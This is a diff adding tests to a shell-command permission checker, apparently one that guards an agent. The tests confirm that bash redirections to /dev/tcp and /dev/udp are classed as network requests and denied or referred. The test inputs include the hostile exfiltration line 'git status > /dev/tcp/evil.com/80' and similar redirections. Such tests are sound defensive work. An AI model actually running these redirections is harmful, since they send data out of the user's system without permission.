@@ -486,3 +486,22 @@ describe('holes found by the mutation review of fetchers.ts (each was allowed)',
     assert.deepEqual(saved, ['.env', '.env?v=1']);
   });
 });
+
+describe("bash's /dev/tcp and /dev/udp redirections are network requests (they were denied as paths outside the root)", () => {
+  it('a redirection to /dev/tcp/HOST/PORT connects to HOST:PORT, decided by the network rules', () => {
+    const evil = run('git status > /dev/tcp/evil.com/80');
+    assert.equal(evil.decision, 'deny', evil.reason);
+    assert.deepEqual(deciding(evil), [['network', 'evil.com:80']]);
+    assert.ok(evil.reason.includes('bash connects to evil.com:80: network.request'), evil.reason);
+    const udp = run('git status > /dev/udp/10.0.0.1/53');
+    assert.deepEqual(deciding(udp), [['network', '10.0.0.1:53']], udp.reason);
+  });
+
+  it('a port given by service name asks; a path that only looks like one is a file', () => {
+    const named = run('git status < /dev/tcp/example.com/http');
+    assert.equal(named.decision, 'ask', named.reason);
+    assert.ok(named.reason.includes('bash connects to example.com on the port named "http"'), named.reason);
+    const file = run('git status < /dev/./tcp/example.com/80');
+    assert.deepEqual(deciding(file).map(([kind]) => kind), ['path'], file.reason);
+  });
+});
